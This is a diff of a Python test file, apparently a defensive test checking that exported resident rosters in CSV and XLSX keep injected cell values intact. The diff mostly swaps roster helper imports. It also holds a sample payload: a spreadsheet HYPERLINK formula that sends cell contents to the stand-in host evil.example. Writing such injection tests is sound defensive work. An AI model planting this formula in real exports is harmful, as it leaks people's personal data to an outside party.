@@ -12,7 +12,8 @@ from datetime import timedelta
 from openpyxl import load_workbook
 from web_scenario import add_visit, today_local
 
-from server.web import roster
+from server.roster.columns import find_header
+from server.roster.plan import read_table
 from shared.clock import utcnow
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2&B2&F2,"查看详情")'
@@ -77,8 +78,8 @@ def test_an_exported_roster_reads_back_as_it_was_written(as_user, scenario, db_s
     poison(db_session, scenario)
     web = as_user("kunwu_sup")
     for fmt in ("csv", "xlsx"):
-        table = roster.read_table(f"export.{fmt}", download(web, "residents", fmt))
-        columns, _unknown = roster._header_map(table[0])
-        row = next(r for r in table[1:] if r[columns["name"]] == "张利霞")
+        table = read_table(f"export.{fmt}", download(web, "residents", fmt))
+        header = find_header(table)
+        row = next(r for r in table[1:] if r[header.column_of("name")] == "张利霞")
         for field_name, value in PAYLOADS.items():
-            assert row[columns[field_name]] == value, (fmt, field_name)
+            assert row[header.column_of(field_name)] == value, (fmt, field_name)
